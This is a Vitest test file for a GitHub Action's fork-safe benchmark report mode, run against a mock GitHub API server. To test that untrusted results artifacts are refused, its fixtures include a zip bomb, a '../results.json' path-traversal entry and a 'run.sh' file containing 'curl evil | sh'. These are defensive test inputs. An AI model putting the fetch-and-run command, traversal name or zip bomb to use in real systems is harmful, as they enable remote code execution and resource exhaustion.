import { readFileSync } from 'node:fs';
import path from 'node:path';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestGitHub, type TestGitHub } from '../github-server/index.js';
import { makeProject, runAction, webhookPayload, workflowRunPayload, type ActionRun } from './run-action.js';

const PR = 2;
const FORK = 'fork-user/Hello-World';
const MARKER = '<!-- perfgate:comment id=perfgate -->';
const PR_RUN = 7001;
const prPayload = webhookPayload('pull_request', 'opened');
const { head: { sha: HEAD }, base: { sha: BASE_SHA } } = prPayload['pull_request'] as { head: { sha: string }; base: { sha: string } };
const OTHER_HEAD = '0123456789abcdef0123456789abcdef01234567';

let github: TestGitHub;
let project: string;
let forkRun: ActionRun;
let forkReport: string;
let forkResults: string;

/** The pull_request payload of the webhook examples, its head moved to a fork. */
function forkPayload(): Record<string, unknown> {
  const payload = structuredClone(prPayload);
  const head = (payload['pull_request'] as { head: { repo: Record<string, unknown> } }).head;
  head.repo = { ...head.repo, full_name: FORK, fork: true, id: 186853002 + 1_000_003 };
  return payload;
}

/** The workflow_run payload of the webhook examples, pointed at a run of this repository. */
function forkRunPayload(runId: number, over: Record<string, unknown> = {}): Record<string, unknown> {
  return workflowRunPayload({ runId, repository: prPayload['repository'], headSha: HEAD, headBranch: 'changes', headRepository: FORK, over });
}

function report(runId: number, payload: Record<string, unknown>, inputs: Record<string, string> = {}): Promise<ActionRun> {
  return runAction(project, { apiUrl: github.url, token: github.token, event: 'workflow_run', payload, runId, ref: 'refs/heads/master', sha: BASE_SHA, inputs: { mode: 'report', ...inputs } });
}

const claim = (number: number, headSha = HEAD) => JSON.stringify({ schema: 'perfgate/pull-request', version: 1, number, headSha, baseSha: BASE_SHA, baseRef: 'master' });
const errorLines = (run: ActionRun) => run.stdout.split('\n').filter((line) => line.startsWith('::error::'));
const writes = () => github.requests.filter((r) => r.service === 'rest' && r.method !== 'GET').length;

beforeAll(async () => {
  github = await startTestGitHub({ owner: 'Codertocat', repo: 'Hello-World', repositoryId: 186853002 });
  // With the relative check off three rounds give a deterministic pass, whatever the machine does.
  project = makeProject(['ok.bench.mjs'], '  thresholds:\n    latency:\n      regression: off\n');
  github.addPullRequest({ number: PR, headSha: HEAD, baseSha: BASE_SHA, baseRef: 'master', headRef: 'changes', fromFork: true, user: 'fork-user' });
  // Main's baseline: a run of the same project, recorded as the base commit's artifact.
  const first = await runAction(project, { apiUrl: github.url, token: github.token, event: 'pull_request', payload: prPayload, inputs: { comment: 'never' } });
  expect(first.status, first.stdout + first.stderr).toBe(0);
  const baseline = readFileSync(path.join(project, '.perfgate', 'results.json'), 'utf8');
  github.addArtifact({ name: 'perfgate-baseline', files: { 'results.json': baseline }, runId: 900, headBranch: 'master', headSha: BASE_SHA });

  forkRun = await runAction(project, {
    apiUrl: github.url,
    token: github.token,
    event: 'pull_request',
    payload: forkPayload(),
    runId: PR_RUN,
    resultsUrl: github.resultsUrl,
    runtimeToken: github.runtimeFor({ runId: PR_RUN, headBranch: 'changes', headSha: HEAD }),
  });
  forkReport = readFileSync(path.join(project, '.perfgate', 'report.md'), 'utf8');
  forkResults = readFileSync(path.join(project, '.perfgate', 'results.json'), 'utf8');
}, 120_000);

afterAll(async () => {
  await github?.close();
});

describe('fork-safe report mode against the GitHub API test server', () => {
  it('a fork pull request run uploads its results with the pull request it measured, and posts nothing', () => {
    expect(forkRun.status, forkRun.stdout + forkRun.stderr).toBe(0);
    expect(forkRun.stdout).toMatch(/pull request #2 comes from a fork, whose token cannot comment: uploaded the results artifact perfgate-results/);
    expect(forkRun.outputs['comment-url']).toBe('');
    expect(forkRun.summary).toMatch(/perfgate: /);
    expect(github.comments(PR)).toEqual([]);
    expect(github.statuses()).toEqual([]);
    expect(writes()).toBe(0);
    const uploaded = github.artifacts().filter((a) => a.name === 'perfgate-results');
    expect(uploaded.map((a) => a.runId)).toEqual([PR_RUN]);
    const files = unzipSync(uploaded[0]!.zip);
    expect(Object.keys(files).sort()).toEqual(['pull-request.json', 'report.json', 'results.json']);
    // Without git the same-runner comparison falls back: the report job must learn why from the claim.
    expect(JSON.parse(new TextDecoder().decode(files['pull-request.json']))).toEqual({
      ...JSON.parse(claim(PR)),
      warnings: [expect.stringMatching(/^same-runner comparison impossible: not a git repository/)],
    });
  });

  it('the workflow_run report run posts the same comment and a commit status on the head', async () => {
    const run = await report(8001, forkRunPayload(PR_RUN));
    expect(run.status, run.stdout + run.stderr).toBe(0);
    const comments = github.comments(PR);
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body).toBe(`${MARKER}\n${forkReport}`);
    expect(run.outputs['comment-url']).toBe(comments[0]!.html_url);
    expect(run.outputs['verdict']).toBe(forkRun.outputs['verdict']);
    expect(run.outputs['baseline-source']).toMatch(/^artifact: artifact perfgate-baseline #\d+ from run 900$/);
    expect(run.summary).toMatch(/perfgate: /);
    const statuses = github.statuses();
    expect(statuses).toHaveLength(1);
    expect(statuses[0]).toMatchObject({ sha: HEAD, state: 'success', context: 'perfgate', target_url: 'https://github.com/Codertocat/Hello-World/actions/runs/8001' });
    expect(statuses[0]!.description).toMatch(/^(pass|improved|new|unstable|warn): \d+ /);
    expect(statuses[0]!.description!.length).toBeLessThanOrEqual(140);

    const again = await report(8002, forkRunPayload(PR_RUN), { 'comment-id': 'nightly', comment: 'never' });
    expect(again.status, again.stdout).toBe(0);
    expect(github.comments(PR)).toHaveLength(1);
    expect(github.statuses().map((s) => s.context)).toEqual(['perfgate', 'perfgate/nightly']);
  });

  it('refuses a results artifact that claims another pull request, and posts nothing', async () => {
    github.addPullRequest({ number: 7, headSha: OTHER_HEAD, baseSha: BASE_SHA, baseRef: 'master', fromFork: true, user: 'fork-user' });
    github.addArtifact({ name: 'perfgate-results', runId: 7003, headBranch: 'changes', headSha: HEAD, fromFork: true, files: { 'results.json': forkResults, 'pull-request.json': claim(7) } });
    const statuses = github.statuses().length;
    const before = writes();
    const run = await report(8003, forkRunPayload(7003));
    expect(run.status).toBe(1);
    expect(errorLines(run)).toEqual([`::error::results artifact of run 7003 claims pull request #7, whose head is ${OTHER_HEAD.slice(0, 7)}, not ${HEAD.slice(0, 7)} (the commit the run measured); nothing was posted`]);
    expect(github.comments(7)).toEqual([]);
    expect(github.statuses()).toHaveLength(statuses);
    expect(writes()).toBe(before);
  });

  it('decides the verdict of a same-runner run again, pairing the rounds as the base configuration says', async () => {
    github.addArtifact({
      name: 'perfgate-results',
      runId: 7004,
      headBranch: 'changes',
      headSha: HEAD,
      fromFork: true,
      files: { 'results.json': forkResults, 'base-results.json': forkResults, 'pull-request.json': claim(PR) },
    });
    const run = await report(8004, forkRunPayload(7004));
    expect(run.status, run.stdout + run.stderr).toBe(0);
    expect(run.outputs['baseline-source']).toBe(`same-runner: commit ${BASE_SHA.slice(0, 12)} (${BASE_SHA})`);
    const body = github.comments(PR)[0]!.body;
    expect(body).toContain(`Compared with the base commit ${BASE_SHA.slice(0, 12)} (${BASE_SHA}) re-run on this runner`);
    expect(body).toContain('compared round by round (Wilcoxon signed-rank');
    expect(github.statuses().at(-1)).toMatchObject({ sha: HEAD, context: 'perfgate', target_url: 'https://github.com/Codertocat/Hello-World/actions/runs/8004' });
  });

  it('refuses an oversized or malformed artifact, or a run that was not a pull request, with one line', async () => {
    const bomb = zipSync({ 'results.json': new Uint8Array(40 * 1024 * 1024), 'pull-request.json': strToU8(claim(PR)) }, { level: 9 });
    const cases: [string, Parameters<TestGitHub['addArtifact']>[0]['files'] | Uint8Array, RegExp][] = [
      ['zip bomb', bomb, /^::error::results artifact "perfgate-results" \(#\d+\) of run \d+ was refused: zip inflates past the 33554432-byte limit .*; nothing was posted$/],
      ['number as text', { 'results.json': forkResults, 'pull-request.json': claim(PR).replace('"number":2', '"number":"2"') }, /was refused: pull-request\.json:1:\d+: number: expected number, got "2"; nothing was posted$/],
      ['no claim', { 'results.json': forkResults }, /was refused: it holds no pull-request\.json; nothing was posted$/],
      ['broken results', { 'results.json': '{"schema":"perfgate/results","version":2}', 'pull-request.json': claim(PR) }, /was refused: results\.json:1:\d+: version: /],
      ['path in a name', { '../results.json': forkResults, 'pull-request.json': claim(PR) }, /was refused: zip entry "\.\.\/results\.json" escapes the folder; nothing was posted$/],
      ['unexpected file', { 'results.json': forkResults, 'pull-request.json': claim(PR), 'run.sh': 'curl evil | sh' }, /was refused: zip entry "run\.sh" is not expected/],
    ];
    let runId = 7100;
    for (const [label, files, why] of cases) {
      runId += 1;
      github.addArtifact({ name: 'perfgate-results', runId, headBranch: 'changes', headSha: HEAD, fromFork: true, ...(files instanceof Uint8Array ? { files: {}, rawZip: files } : { files }) });
      const before = writes();
      const run = await report(8100 + runId, forkRunPayload(runId));
      expect(run.status, label).toBe(1);
      const lines = errorLines(run);
      expect(lines, `${label}: ${run.stdout}`).toHaveLength(1);
      expect(lines[0], label).toMatch(why);
      expect(writes(), label).toBe(before);
    }

    const push = await report(8200, forkRunPayload(PR_RUN, { event: 'push' }));
    expect(push.status).toBe(1);
    expect(errorLines(push)).toEqual([`::error::workflow run ${PR_RUN} was triggered by "push", not by pull_request: "mode: report" posts only pull request results; nothing was posted`]);
  }, 120_000);

  it('warns, and posts nothing, when the run left no results artifact', async () => {
    github.addArtifact({ name: 'something-else', runId: 7200, headBranch: 'changes', headSha: HEAD, fromFork: true, files: { 'a.txt': 'a' } });
    const before = writes();
    const run = await report(8300, forkRunPayload(7200, { conclusion: 'failure' }));
    expect(run.status).toBe(0);
    expect(run.stdout).toMatch(/::warning::workflow run 7200 \(failure\) left no artifact named "perfgate-results": nothing to report/);
    expect(writes()).toBe(before);
  });

  it('made no request that GitHub would reject', () => {
    expect(github.validationErrors).toEqual([]);
  });
});
